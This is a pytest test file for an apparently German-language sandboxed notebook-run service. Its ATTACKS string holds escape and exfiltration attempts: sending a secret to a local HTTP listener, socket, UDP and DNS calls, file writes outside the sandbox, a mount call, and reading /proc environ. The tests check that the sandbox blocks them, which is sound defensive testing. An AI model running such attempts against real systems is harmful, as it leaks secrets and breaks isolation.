"""What a run that means harm, or fails, or is killed, gets out: nothing."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import psutil
import pytest

from metered_home import QUESTION, READ, SECRET, TABLE, asking, meter
from running import wait_for
from stadtlabor import realrun
from stadtlabor.handover import dropped
from stadtlabor.realrun import desk, history, places
from stadtlabor.realrun.child import OUTCOME
from stadtlabor.realrun.isolation import fault
from stadtlabor.realrun.queue import work_once
from stadtlabor.realrun.state import requests
from stadtlabor.realrun.view import SCRATCH

pytestmark = [
    pytest.mark.timeout(240),
    pytest.mark.skipif(bool(fault()), reason=f"no namespaces: {fault()}"),
]
ME = {"who": "b-berta", "role": "publisher", "not_own": True}

ATTACKS = """
import os, socket, urllib.request, pathlib, subprocess, ctypes, glob
secret = str(values['value'].max())
got = []
def tried(name, work):
    try:
        work()
        got.append(name)
    except BaseException:
        pass
tried('http', lambda: urllib.request.urlopen('http://127.0.0.1:{port}/' + secret, timeout=3))
tried('tcp', lambda: socket.create_connection(('{address}', {port}), 3))
tried('dns', lambda: socket.getaddrinfo('example.org', 80))
def by_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(secret.encode(), ('{address}', {port}))
tried('udp', by_udp)
def by_name():
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(chr(0) + '{abstract}')
tried('abstract', by_name)
def by_socket():
    with socket.socket(socket.AF_UNIX) as link:
        link.connect('{sock}')
tried('socket', by_socket)
tried('fifo', lambda: os.open('{home}' + '/realrun/.rohr', os.O_WRONLY | os.O_NONBLOCK))
for place in (*{scratch}, '{outside}', '{home}', '{home}' + '/store', '{root}'):
    tried('', lambda: pathlib.Path(place, 'leck.txt').write_text(secret))
tried('', lambda: subprocess.Popen(['sleep', '3607']))
tried('mount', lambda: 1 / (ctypes.CDLL(None).mount(b'none', b'/', None, 0x20 | 0x1000, None) == 0))
tried('desk', lambda: os.listdir('{home}' + '/realrun/desk'))
tried('kill', lambda: os.kill({worker}, 0))
tried('environ', lambda: 1 / ('geheim' in os.environ.values()))
tried('memory', lambda: open('/proc/{worker}/environ', 'rb').read())
print(secret, got)
"""
HONEST = (
    "import pandas as pd\n"
    "found = pd.DataFrame({'way': ['ways', *[g for g in got if g]]})\n"
    "found['n'] = 9\n"
    "realrun.release('ways', found, count='n')"
)


@pytest.fixture
def house(empty_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("STADTLABOR_REGISTERS", "STADTLABOR_DATA", "STADTLABOR_REALRUN"):
        monkeypatch.delenv(name, raising=False)
    meter(empty_home)
    return empty_home


class Ear(BaseHTTPRequestHandler):
    """Writes down everything that it hears."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def ear() -> Iterator[ThreadingHTTPServer]:
    Ear.heard.clear()
    server = ThreadingHTTPServer(("0.0.0.0", 0), Ear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def own_address() -> str:
    """Return an address of this machine that is not the loopback's, where it has one."""
    for links in psutil.net_if_addrs().values():
        for link in links:
            if link.family == socket.AF_INET and not link.address.startswith("127."):
                return link.address
    return "127.0.0.1"


def approved(source: str) -> str:
    id_ = desk.take(source, QUESTION, "a-anna")
    assert requests()[0].faults == (), requests()[0].faults
    desk.approve(id_, **ME)
    return id_


def test_nothing_gets_out(house: Path, tmp_path: Path, ear, monkeypatch) -> None:
    monkeypatch.setenv("SECRET", "geheim")
    outside = tmp_path / "offen"
    outside.mkdir(mode=0o777)
    (house / "realrun").mkdir()
    fifo, listening = house / "realrun" / ".rohr", socket.socket(socket.AF_UNIX)
    os.mkfifo(fifo)
    pipe = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    abstract = f"stadtlabor-{os.getpid()}"
    # Its path must be short.
    sock = Path(tempfile.mkdtemp()) / "s"
    with socket.socket(socket.AF_UNIX) as named, listening:
        listening.bind(str(sock))
        listening.listen()
        named.bind("\0" + abstract)
        named.listen()
        attack = ATTACKS
        for name, value in {
            "port": ear.server_port, "address": own_address(), "abstract": abstract,
            "scratch": SCRATCH, "sock": sock, "outside": outside, "home": house,
            "root": Path(__file__).parents[2], "worker": os.getpid(),
        }.items():  # fmt: skip
            attack = attack.replace(f"{{{name}}}", str(value))
        approved(asking(READ, attack, HONEST))
        assert work_once() == 1
    os.close(pipe)
    desk.collect()
    (one,) = requests()
    assert one.state == "check", (one.failure, one.cell)
    held = json.loads((places.held() / f"{one.id}.json").read_text())
    # The loopback of the run itself, its own process and what it may see there are its own.
    assert {row[0] for row in held[0]["rows"]} <= {"ways"}, held
    assert Ear.heard == []
    left = [Path(place) / "leck.txt" for place in (*SCRATCH, outside, house,
            house / "store", Path(__file__).parents[2])]  # fmt: skip
    assert [path for path in left if path.exists()] == []
    sleeping = [
        p for p in psutil.process_iter(["cmdline"]) if p.info["cmdline"] == ["sleep", "3607"]
    ]
    assert sleeping == []
    assert list(places.work().iterdir()) == []


def test_the_words_of_an_error_are_told_to_nobody(house: Path) -> None:
    fails = "class Wert(Exception): pass\nraise Wert(f'hier: {values[\"value\"].max()}')"
    id_ = approved(asking(READ, "print(values['value'].max())", fails, TABLE))
    assert work_once() == 1
    desk.collect()
    (one,) = requests()
    assert (one.state, one.failure, one.cell) == ("returned", "other", 5)
    said = realrun.standing(id_)
    assert said.startswith("Der Lauf brach in Zelle 5 ab: Ein Fehler im Code.")
    for path in [*places.root().rglob("*"), *(house / "data").rglob("*")]:
        if path.is_file():
            assert b"31337" not in path.read_bytes(), path
            assert b"Wert" not in path.read_bytes() or path.suffix == ".ipynb", path
    assert SECRET == 31337.125


def test_a_killed_service_loses_nothing_and_releases_nothing(house: Path) -> None:
    id_ = approved(asking())
    environment = {**os.environ, "STADTLABOR_HOME": str(house)}
    service = subprocess.Popen([sys.executable, "-m", "stadtlabor.realrun"], env=environment)
    wait_for("a run", lambda: dropped(places.outcomes()), 30)
    desk.collect()
    assert requests()[0].state == "running"
    folder = wait_for("its process", lambda: list(places.work().glob("*/log.txt")), 30)[0].parent
    wait_for("its kernel", lambda: len(psutil.Process(service.pid).children(True)) > 2, 30)
    started = psutil.Process(service.pid).children(True)
    service.kill()
    service.wait()
    _, alive = psutil.wait_procs(started, timeout=10)
    assert alive == []
    desk.collect()
    assert requests()[0].state == "running"
    assert folder.exists()
    assert work_once() == 1
    desk.collect()
    assert requests()[0].state == "check"
    assert not folder.exists()
    assert [row.kind for row in history.events()] == [
        "submitted", "approved", "started", "started", "finished",
    ]  # fmt: skip
    desk.release(id_, **ME)
    assert list(realrun.results(id_)) == ["per_day"]


def test_a_notebook_that_takes_the_service_down_is_given_up(house: Path) -> None:
    id_ = approved(asking())
    places.work().mkdir(parents=True)
    (places.work() / f"{requests()[0].token}.tries").write_text("3")
    assert work_once() == 1
    desk.collect()
    assert "mehrmals unterbrochen" in realrun.standing(id_)


def test_where_nothing_can_be_closed_off_nothing_runs(tmp_path: Path) -> None:
    folder = tmp_path / "x"
    folder.mkdir()
    # A namespace that no system knows is refused as all are where they are forbidden.
    code = (
        "from pathlib import Path\nfrom stadtlabor.realrun import child, isolation\n"
        f"isolation._NEW = {{'unknown': 1}}\nchild.main(Path({str(folder)!r}))"
    )
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert json.loads((folder / OUTCOME).read_text()) == {"failure": "isolation", "cell": 0}
    assert "unshare" in told.stderr
    assert not (folder / "run").exists()
